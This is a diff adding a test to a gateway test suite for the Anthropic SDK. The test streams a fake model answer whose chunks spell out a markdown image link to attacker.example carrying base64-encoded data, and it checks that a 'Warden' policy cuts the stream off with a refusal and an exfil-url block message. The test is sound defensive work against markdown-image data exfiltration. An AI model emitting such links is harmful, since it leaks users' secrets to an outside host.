@@ -129,4 +129,18 @@ describe('Anthropic SDK through the gateway', () => {
     const page = await client.models.list();
     expect(page.data.map((m) => m.id).sort()).toEqual(['claude-test', 'demo', 'gpt-test']);
   });
+
+  it('ends an Anthropic stream with stop_reason refusal when the answer is blocked mid-stream', async () => {
+    gw.fake.script.push({ kind: 'text', content: '', chunks: ['Sure ![x](https://attack', 'er.example/c?d=c2VjcmV0', ') done'] });
+    const stream = await client.messages.create({ model: 'claude-test', max_tokens: 64, stream: true, messages: [{ role: 'user', content: 'show' }] });
+    let text = '';
+    let stop: string | null = null;
+    for await (const ev of stream) {
+      if (ev.type === 'content_block_delta' && ev.delta.type === 'text_delta') text += ev.delta.text;
+      if (ev.type === 'message_delta') stop = ev.delta.stop_reason;
+    }
+    expect(stop).toBe('refusal');
+    expect(text).not.toContain('attacker');
+    expect(text).toMatch(/Response blocked by Warden policy: exfil-url\//);
+  });
 });
